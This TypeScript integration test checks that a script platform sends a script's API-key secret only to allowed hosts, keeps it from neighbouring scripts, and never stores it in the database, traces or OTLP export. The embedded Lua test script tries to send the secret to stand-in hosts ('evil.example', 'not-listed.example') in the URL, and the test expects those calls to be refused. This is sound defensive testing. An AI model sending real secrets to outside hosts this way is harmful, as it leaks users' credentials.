/**
 * A script's secret on the wire (workerd, real local libSQL, real test server on 127.0.0.1): the
 * script sends its secret in headers and the query, the server sees it; a neighbour in the same
 * layer cannot read it; the value is then found in no column of any table, nor in trace detail,
 * the OTLP export or the dry run's spans — also where it sat in the URL of a refused call and a
 * refused redirect. The CLIENT spans of the real trigger call are stored and exported as children
 * of their script's span.
 */
import { env } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import { waitForTrace } from "./db";
import { admin, call, createScript, fireTrigger, unique } from "./helpers";
import { findInDatabase } from "./secrets-db-scan";

const BASE = env.TEST_HTTP_URL;
const LOCAL = ["127.0.0.1"];

const SENDER = `
local key = secrets.API_KEY
local r = http.fetch("${BASE}/echo?key=" .. key, { headers = { ["x-api-key"] = key, authorization = "Bearer " .. key } })
log("server saw " .. r.json.headers["x-api-key"])
local refused_ok, refused = pcall(http.fetch, "https://not-listed.example/p/" .. key)
local hop_ok, hop = pcall(http.fetch, "${BASE}/redirect?to=https://evil.example/" .. key)
return { data = {
  echoed = r.json.headers["x-api-key"],
  bearer_ok = r.json.headers.authorization == "Bearer " .. key,
  query_ok = r.json.query.key == key,
  refused = refused, hop = hop,
} }`;

const NEIGHBOUR = `
local r = http.fetch("${BASE}/echo", { headers = { ["x-api-key"] = secrets.API_KEY or "none" } })
return { data = { neighbour_sent = r.json.headers["x-api-key"] } }`;

describe("a secret sent over http.fetch", () => {
  it("reaches the server, and is stored nowhere: database, trace detail, OTLP, dry run", async () => {
    const ev = unique("ev");
    const value = `sk_live_${unique("v")}`;
    const sender = await createScript(ev, SENDER, { name: "Sender", allowed_hosts: LOCAL });
    await createScript(ev, NEIGHBOUR, { name: "Neighbour", parallel_index: 1, allowed_hosts: LOCAL });
    const put = await admin("PUT", `/v1/scripts/${sender.id}/secrets/API_KEY`, { value });
    expect(put.status).toBe(201);

    const { body } = await fireTrigger(ev, { user: { id: unique("u") } });
    expect(body.errors).toBeUndefined();
    // The trigger answer's data is what the scripts returned (not scrubbed: the caller's own answer).
    expect(body.data).toMatchObject({
      echoed: value,
      bearer_ok: true,
      query_ok: true,
      refused: "http.fetch: refused: host not-listed.example is not in allowed_hosts",
      hop: "http.fetch: redirect refused: host evil.example is not in allowed_hosts",
      neighbour_sent: "none",
    });

    await waitForTrace(body.trace_id);
    expect(await findInDatabase(value)).toEqual([]);
    const detail = await call("GET", `/v1/traces/${body.trace_id}`, {
      headers: { authorization: `Bearer ${env.ADMIN_TOKEN}` },
    });
    const detailText = await detail.text();
    expect(detail.status).toBe(200);
    expect(detailText).not.toContain(value);
    const otlp = await admin("GET", `/v1/traces/${body.trace_id}/otlp`);
    expect(otlp.status).toBe(200);
    expect(JSON.stringify(otlp.body)).not.toContain(value);

    // CLIENT spans: 3 of the sender (echo, refused, redirect hop), 1 of the neighbour, each a
    // child of its own script's span, stored and exported so.
    const spans = JSON.parse(detailText).spans as {
      id: string;
      kind: string;
      name: string;
      parent_span_id: string;
    }[];
    const scriptSpan = (name: string) => spans.find((s) => s.name === name && s.kind === "INTERNAL")?.id;
    const parents = spans.filter((s) => s.kind === "CLIENT").map((s) => s.parent_span_id);
    expect(parents.sort()).toEqual(
      [scriptSpan("Sender"), scriptSpan("Sender"), scriptSpan("Sender"), scriptSpan("Neighbour")].sort(),
    );
    const exported = otlp.body.resourceSpans[0].scopeSpans[0].spans as {
      spanId: string;
      parentSpanId?: string;
      kind: number;
    }[];
    const exportedParents = exported.filter((s) => s.kind === 3).map((s) => s.parentSpanId);
    expect(exportedParents.sort()).toEqual(parents.sort());

    // The dry run of the same saved scripts makes the same calls; its spans never show the value.
    const dry = await call("POST", `/v1/triggers/${ev}/dry-run`, {
      headers: { authorization: `Bearer ${env.ADMIN_TOKEN}` },
      json: { context: {} },
    });
    const dryText = await dry.text();
    expect(dry.status).toBe(200);
    const dryBody = JSON.parse(dryText);
    expect(dryBody.data.query_ok).toBe(true);
    expect(dryBody.spans.filter((s: { kind: string }) => s.kind === "CLIENT")).toHaveLength(4);
    expect(dryText).not.toContain(value);
    expect(await findInDatabase(value)).toEqual([]);
  });

  it("two interleaved trigger calls (met at a barrier) each send their own script's secret", async () => {
    const group = unique("pair");
    const calls = await Promise.all(
      ["a", "b"].map(async (who) => {
        const ev = unique(`ev_${who}`);
        const value = `sk_${who}_${unique("v")}`;
        const s = await createScript(
          ev,
          `local before = secrets.API_KEY
           http.fetch("${BASE}/barrier?n=2&group=${group}&id=${who}", { timeout_ms = 5000 })
           local r = http.fetch("${BASE}/echo", { headers = { ["x-api-key"] = secrets.API_KEY } })
           return { data = { same = before == secrets.API_KEY, sent = r.json.headers["x-api-key"] } }`,
          { allowed_hosts: LOCAL, timeout_ms: 6000 },
        );
        const put = await admin("PUT", `/v1/scripts/${s.id}/secrets/API_KEY`, { value });
        expect(put.status).toBe(201);
        return { ev, value };
      }),
    );
    const answers = await Promise.all(calls.map((c) => fireTrigger(c.ev, { user: { id: "u" } })));
    for (const [i, { body }] of answers.entries()) {
      expect(body.errors).toBeUndefined();
      expect(body.data).toEqual({ same: true, sent: calls[i]?.value });
    }
  });
});
